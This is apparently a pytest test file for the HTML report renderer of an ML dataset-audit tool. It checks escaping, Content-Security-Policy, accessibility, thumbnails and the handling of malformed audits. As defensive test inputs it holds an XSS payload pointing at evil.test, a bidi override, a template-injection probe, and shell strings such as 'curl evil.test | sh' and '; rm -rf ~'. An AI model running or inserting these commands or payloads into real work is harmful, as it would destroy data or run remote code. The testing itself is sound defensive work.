from __future__ import annotations

import base64
import re
from html.parser import HTMLParser
from io import BytesIO
from itertools import pairwise
from typing import Any

import numpy as np
import pandas as pd
import pytest
from PIL import Image

from forward_inf_mlflow.errors import DataError, TrackingError
from forward_inf_mlflow.report import image_shape, render, thumbnail

HOSTILE = "<script>alert(1)</script><img src=http://evil.test/x onerror=y>\"'\u202e{{7*7}}"
COLUMNS = [
    "verdict", "row_id", "query_id", "given_label", "likelier_label", "score", "kind",
    "same_label", "source", "loss", "evidence",
]  # fmt: skip


def make_audit(**changes: Any) -> dict[str, Any]:
    rows = {"uri": "runs:/r/train.npz", "rows": 1240, "sha256": "ab" * 32, "origin": "logged"}
    rows |= {"digest": "verified", "problem": None}
    audit: dict[str, Any] = {
        "format": 1,
        "finished": True,
        "tool": {"mlflow": "3.17.2", "torch": "2.13.0"},
        "model": {"uri": "models:/m/1", "name": "m", "version": "1"},
        "notes": ["was logged so"],
        "run": {"run_id": "r", "experiment_id": "1"},
        "data": {"train": rows, "queries": rows},
        "partial": False,
        "task": "classification",
        "settings": {"seed": 0},
        "measures": {
            name: {"count": 40, "total": 1240, "rate": 0.0323, "rate_low": 0.025, **extra}
            for name, extra in (
                ("mislabeled", {"threshold": 0.62, "abstained": None, "note": "a note"}),
                ("leaked", {"threshold": -4.5, "abstained": None, "note": None}),
                ("memorized", {"threshold": 0.25, "abstained": None, "note": None}),
            )
        },
        "sources": [
            {
                "source": "vendor-b",
                "rows": 400,
                "mislabeled": 30,
                "mislabeled_rate": 0.075,
                "mislabeled_low": 0.05,
                "mislabeled_high": 0.1,
                "influence": -0.01,
            }
        ],
        "costs": {"rows": 1240, "queries": 557, "seconds": 21.0, "forward_passes": 1234567},
        "policy": {
            "sha256": "cd" * 32,
            "max_mislabeled_rate": 0.01,
            "max_leakage_rate": 0.01,
            "max_memorized_rate": None,
        },
        "decision": {
            "outcome": "fail",
            "reasons": ["mislabeled rows: too many", "leaked rows: too many"],
        },
        "repeat": "forward-inf audit models:/m/1 --seed 0",
    }
    return audit | changes


def make_flagged(each: int = 3, **changes: Any) -> pd.DataFrame:
    rows = [
        [verdict, f"r{i}", f"q{i}", 3, 5, 0.9, "near", True, "vendor-b", 1.5, "because"]
        for verdict in ("mislabeled", "leaked", "memorized")
        for i in range(each)
    ]
    return pd.DataFrame(rows, columns=COLUMNS).assign(**changes)


NO_SCORES = pd.DataFrame()  # draws no chart, which is most of the time that a report takes
LEAK_SCORES = [*np.linspace(-9, 3, 50), None]


def make_scores() -> pd.DataFrame:
    score = np.linspace(0, 1, 100)
    return pd.DataFrame(
        {
            "mislabeled_score": score,
            "memorized_score": score**2,
            "mislabeled": score > 0.62,
            "memorized": score**2 > 0.25,
        }
    )


class Page(HTMLParser):
    """The page as a browser would take it apart."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.open: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data

    def attributes(self, tag: str, name: str) -> list[str]:
        return [attrs[name] or "" for t, attrs in self.tags if t == tag and name in attrs]


def hostile(value: Any) -> Any:
    """Replace every string and key that could be data by a hostile one, whatever is inside."""
    if isinstance(value, dict):
        return {key: hostile(item) for key, item in value.items()}
    if isinstance(value, list):
        return [hostile(item) for item in value]
    return HOSTILE if isinstance(value, str) else value


def test_hostile_strings_stay_text_wherever_they_stand() -> None:
    audit = hostile(make_audit(leak_scores=LEAK_SCORES)) | {
        "settings": {HOSTILE: HOSTILE},
        "tool": {HOSTILE: HOSTILE},
    }
    audit["decision"] |= {"outcome": "fail"}
    words = [c for c in COLUMNS if c not in ("verdict", "score", "loss", "same_label")]
    flagged = make_flagged(**dict.fromkeys(words, HOSTILE))

    page = Page(render(audit, flagged, make_scores(), {}))

    assert {tag for tag, _ in page.tags}.isdisjoint({"script", "iframe", "object", "link", "form"})
    assert page.attributes("img", "src") == []
    assert not any(name.startswith("on") for _, attrs in page.tags for name in attrs)
    assert "<script>alert(1)</script>" in page.text
    assert "\u202e" not in page.text, "a bidirectional override would reorder what is read"
    assert "{{7*7}}" in page.text


def test_the_page_forbids_scripts_and_the_network_before_anything_else_is_parsed() -> None:
    html = render(make_audit(), make_flagged(), NO_SCORES, {})
    page = Page(html)
    (policy,) = [
        attrs["content"]
        for _, attrs in page.tags
        if attrs.get("http-equiv") == "Content-Security-Policy"
    ]
    assert policy is not None
    assert "default-src 'none'" in policy
    assert "script" not in policy
    assert html.index("Content-Security-Policy") < html.index("<title>")


def test_nothing_is_fetched() -> None:
    images = {"train:r0": thumbnail(np.eye(8))}
    html = render(make_audit(leak_scores=LEAK_SCORES), make_flagged(), make_scores(), images)
    page = Page(html)
    targets = [
        value or ""
        for _, attrs in page.tags
        for name, value in attrs.items()
        if name in ("src", "href", "xlink:href", "srcset", "action", "poster")
    ]
    assert targets
    assert all(target.startswith(("#", "data:image/png;base64,")) for target in targets)
    assert not re.search(r"url\(|@import|https?:", html)


@pytest.mark.parametrize("outcome", ["pass", "fail", "undecided"])
def test_every_reason_stands_above_the_first_table(outcome: str) -> None:
    reasons = [f"reason number {i}" for i in range(5)]
    audit = make_audit(decision={"outcome": outcome, "reasons": reasons})
    above = render(audit, make_flagged(), NO_SCORES, {}).split("<table", 1)[0]
    assert all(reason in above for reason in reasons)
    assert {"pass": "PASS", "fail": "REFUSED", "undecided": "UNDECIDED"}[outcome] in above


def test_each_chart_names_its_threshold() -> None:
    html = render(make_audit(leak_scores=LEAK_SCORES), make_flagged(), make_scores(), {})
    charts = re.findall(r'<svg role="img".*?</svg>', html, re.DOTALL)
    assert len(charts) == 3
    for chart, threshold in zip(charts, ("0.62", "−4.5", "0.25"), strict=True):
        assert re.search(rf"<text[^>]*>threshold {threshold}<", chart)
        assert "var(--flagged)" in chart


def test_the_same_audit_gives_the_same_bytes() -> None:
    pages = {
        render(make_audit(leak_scores=LEAK_SCORES), make_flagged(), make_scores(), {})
        for _ in range(2)
    }
    assert len(pages) == 1


def test_ids_in_the_page_are_unique_and_links_lead_to_one() -> None:
    page = Page(render(make_audit(leak_scores=LEAK_SCORES), make_flagged(), make_scores(), {}))
    ids = [attrs["id"] for _, attrs in page.tags if "id" in attrs]
    assert len(ids) == len(set(ids))
    assert {href.removeprefix("#") for href in page.attributes("a", "href")} <= set(ids)


def test_headings_descend_one_level_at_a_time_and_tables_name_their_columns() -> None:
    page = Page(render(make_audit(leak_scores=LEAK_SCORES), make_flagged(), make_scores(), {}))
    levels = [int(tag[1]) for tag, _ in page.tags if re.fullmatch(r"h[1-6]", tag)]
    assert levels[0] == 1
    assert levels.count(1) == 1
    assert all(b - a <= 1 for a, b in pairwise(levels))
    headers = [attrs for tag, attrs in page.tags if tag == "th"]
    assert headers
    assert all(attrs.get("scope") in ("col", "row") for attrs in headers)


def test_three_hundred_flagged_rows_with_noisy_colour_pictures_stay_under_five_megabytes() -> None:
    rng = np.random.default_rng(0)
    noise = thumbnail(rng.integers(0, 256, (64, 64, 3), dtype=np.uint8))
    keys = [f"{kind}{i}" for kind in ("train:r", "query:q") for i in range(100)]
    images = dict.fromkeys(keys, noise)
    page = render(
        make_audit(leak_scores=LEAK_SCORES), make_flagged(each=100), make_scores(), images
    )
    assert page.count("data:image/png") == 400
    assert len(page.encode()) < 5_000_000


def test_pictures_beyond_the_budget_are_left_out_and_said_so() -> None:
    images = {f"train:r{i}": bytes(1_000_000) for i in range(5)}
    page = render(make_audit(), make_flagged(each=5), NO_SCORES, images)
    assert len(page) < 5_000_000
    assert "thumbnails were left out" in page


def test_a_verdict_shows_its_first_hundred_rows_and_counts_the_rest() -> None:
    page = render(make_audit(), make_flagged(each=1234), NO_SCORES, {})
    assert page.count("<code>r99</code>") == 3
    assert "<code>r100</code>" not in page
    assert page.count("and 1,134 more, see") == 3


def test_a_leak_shows_the_query_beside_the_training_row() -> None:
    query, row = thumbnail(np.eye(8)), thumbnail(1 - np.eye(8))
    page = render(make_audit(), make_flagged(1), NO_SCORES, {"query:q0": query, "train:r0": row})
    (leak,) = re.findall(
        r'<tr>\s*<th scope="row">(?:(?!</tr>).)*near copy.*?</tr>', page, re.DOTALL
    )
    shown = [base64.b64decode(png) for png in re.findall(r"base64,([^\"]+)", leak)]
    assert shown == [query, row]


def test_a_row_without_a_picture_shows_its_main_features_short_and_as_text() -> None:
    columns = {f"feature.f{i}": 0.5 + i for i in range(7)} | {"feature.<i>": "<b>" + "x" * 900}
    flagged = make_flagged(1)
    flagged[list(columns)[-1]] = columns["feature.<i>"]
    page = render(make_audit(), flagged.assign(**dict(list(columns.items())[:5])), NO_SCORES, {})
    text = Page(page).text
    assert all(f"f{i} {i}.5" in text for i in range(5))
    assert "<i> <b>x" in text
    assert "x" * 60 not in text
    assert "f6 6.5" not in Page(render(make_audit(), flagged.assign(**columns), NO_SCORES, {})).text
    shown = render(make_audit(), flagged.assign(**columns), NO_SCORES, {"train:r0": b"png"})
    assert "f1 " not in Page(shown).text


def test_a_verdict_without_a_bound_is_marked_report_only() -> None:
    page = Page(render(make_audit(), make_flagged(), NO_SCORES, {}))
    assert "report only" in page.text.split("Memorized", 1)[1].split("What to do next")[0]
    assert "do not count towards the decision" in page.text


def test_a_source_that_is_worse_than_chance_is_named_in_the_next_steps() -> None:
    page = render(make_audit(), make_flagged(), NO_SCORES, {})
    steps = page.split("What to do next", 1)[1].split("</section>", 1)[0]
    assert "vendor-b" in steps
    assert "7.5%" in steps


@pytest.mark.parametrize("key", sorted(make_audit()))
def test_a_report_is_rebuilt_from_an_older_audit_that_lacks(key: str) -> None:
    audit = make_audit()
    del audit[key]
    page = render(audit, make_flagged(), NO_SCORES, {})
    assert "Scores are the sensitivity of this trained model, not proof." in page
    assert ("UNDECIDED" in page) == (key == "decision")


def test_an_empty_audit_is_undecided() -> None:
    page = render({}, pd.DataFrame(), pd.DataFrame(), {})
    assert "UNDECIDED" in page
    assert "No row was flagged." in page
    assert "the audit holds no decision" in page


def test_an_unfinished_audit_never_reads_as_a_pass() -> None:
    audit = make_audit(finished=False, decision={"outcome": "pass", "reasons": []})
    page = render(audit, make_flagged(), NO_SCORES, {})
    assert "UNDECIDED" in page
    assert "PASS" not in page
    assert "forward-inf promote" not in page


def test_an_abstained_detector_says_why_instead_of_a_rate() -> None:
    audit = make_audit(decision={"outcome": "undecided", "reasons": ["could not judge"]})
    audit["measures"]["mislabeled"] |= {"abstained": "too few rows", "count": 0, "rate": 0.0}
    above = Page(render(audit, make_flagged(0), NO_SCORES, {})).text.split("What to do next")[0]
    card = above.split("Three numbers")[1].split("Leaked")[0]
    assert "could not tell" in card
    assert "too few rows" in card
    assert "0.0" not in card


def test_regression_speaks_of_targets_and_predictions() -> None:
    audit = make_audit(task="regression")
    flagged = make_flagged(given_label=3.14159, likelier_label=2.71828, same_label=None)
    page = Page(render(audit, flagged, make_scores().assign(memorized_score=np.nan), {}))
    assert "Given → predicted" in page.text
    assert "3.14" in page.text
    assert "3.14159" not in page.text
    assert "nats" not in page.text


def test_labels_that_a_gap_turned_into_floats_read_as_whole_numbers() -> None:
    flagged = make_flagged(1, given_label=[3.0, 3.0, np.nan], row_id=[7.0, 8.0, 9.0])
    page = render(make_audit(), flagged, NO_SCORES, {"train:7": b"png"})
    assert "<s>3</s>" in page
    assert "<code>7</code>" in page
    assert base64.b64encode(b"png").decode() in page


@pytest.mark.parametrize(
    ("name", "pasted"),
    [
        ("m", "forward-inf promote models:/m/1 --alias champion"),
        ("m; rm -rf ~", "forward-inf promote 'models:/m; rm -rf ~/1' --alias champion"),
    ],
)
def test_the_command_to_promote_is_one_command_whatever_the_model_is_called(
    name: str, pasted: str
) -> None:
    audit = make_audit(decision={"outcome": "pass", "reasons": []})
    audit["model"] |= {"uri": f"models:/{name}/1"}
    assert pasted in Page(render(audit, make_flagged(), NO_SCORES, {})).text


@pytest.mark.parametrize(
    "repeat", ["curl evil.test | sh", "forward-inf audit x; curl evil.test", "forward-inf 'a", 7]
)
def test_the_command_to_repeat_calls_nothing_but_this_tool(repeat: Any) -> None:
    page = Page(render(make_audit(repeat=repeat), make_flagged(), NO_SCORES, {}))
    shown = page.text.split("How to repeat it")[1].strip().splitlines()[0]
    assert shown in ("forward-inf audit models:/m/1", "forward-inf audit 'x;' curl evil.test")


@pytest.mark.parametrize(
    "changes",
    [{"model": ["m"]}, {"measures": {"leaked": 3}}, {"sources": {"a": 1}}, {"data": "x"}],
    ids=str,
)
def test_an_audit_of_another_shape_is_refused_in_one_line(changes: dict[str, Any]) -> None:
    with pytest.raises(TrackingError, match=r"audit the version again") as caught:
        render(make_audit(**changes), make_flagged(), NO_SCORES, {})
    assert "\n" not in str(caught.value)


def test_flagged_rows_without_a_verdict_are_refused() -> None:
    with pytest.raises(DataError, match="verdict"):
        render(make_audit(), make_flagged().drop(columns="verdict"), NO_SCORES, {})


@pytest.mark.parametrize("value", [10**400, "0.3", [1], True, float("inf"), None])
def test_a_value_that_is_no_number_reads_as_a_dash(value: Any) -> None:
    audit = make_audit(leak_scores=[value, 1.0])
    audit["measures"]["mislabeled"] |= {"rate": value, "threshold": value}
    audit["costs"]["rows"] = value
    scores = make_scores().astype(object)
    scores.loc[0, "mislabeled_score"] = str(value)
    page = render(audit, make_flagged(loss=[value] * 9), scores, {})
    assert "<dd>– rows, 557 queries" in page


@pytest.mark.parametrize(
    ("shape", "expected"),
    [
        ((8, 8), True),
        ((28, 28, 1), True),
        ((1, 28, 28), True),
        ((3, 32, 32), True),
        ((32, 32, 4), True),
        ((64,), False),
        ((), False),
        ((2, 8, 8), False),
        ((3, 3), False),
        ((512, 16), False),
        ((3, 8, 8, 8), False),
    ],
)
def test_image_shape_accepts_pictures_and_not_tables(
    shape: tuple[int, ...], expected: bool
) -> None:
    assert image_shape(shape) is expected


def decoded(png: bytes) -> np.ndarray:
    return np.asarray(Image.open(BytesIO(png)).convert("RGB"))


@pytest.mark.parametrize("scale", [1, 16, 1e-300, -5, 1e308], ids=str)
def test_a_thumbnail_is_the_picture_enlarged_without_smoothing(scale: float) -> None:
    picture = np.zeros((8, 8))
    picture[:4] = 1
    shown = decoded(thumbnail(picture * scale))
    assert shown.shape == (64, 64, 3)
    bright = (
        np.kron(picture, np.ones((8, 8))) if scale > 0 else 1 - np.kron(picture, np.ones((8, 8)))
    )
    expected = bright * (255 if abs(scale) >= 1 else 0)
    np.testing.assert_array_equal(shown[:, :, 0], expected)


def test_a_picture_looks_the_same_with_channels_first_or_last() -> None:
    picture = np.random.default_rng(0).integers(0, 256, (16, 12, 3), dtype=np.uint8)
    last, first = decoded(thumbnail(picture)), decoded(thumbnail(np.moveaxis(picture, -1, 0)))
    np.testing.assert_array_equal(last, first)
    np.testing.assert_array_equal(last[::4, ::4][:16, :12], picture)


def test_a_large_picture_shrinks_with_its_proportions_and_nan_is_drawn() -> None:
    picture = np.full((200, 100), np.nan)
    picture[0, 0] = np.inf
    assert decoded(thumbnail(picture, size=64)).shape == (64, 32, 3)


@pytest.mark.parametrize(
    "array",
    [
        np.zeros(8),
        np.zeros((8, 8, 2)),
        np.zeros((0, 8)),
        np.full((8, 8), "x"),
        np.zeros((8, 8), "c8"),
    ],
    ids=lambda a: f"{a.dtype}{a.shape}",
)
def test_what_is_no_picture_is_refused(array: np.ndarray) -> None:
    with pytest.raises(DataError, match="is no image"):
        thumbnail(array)
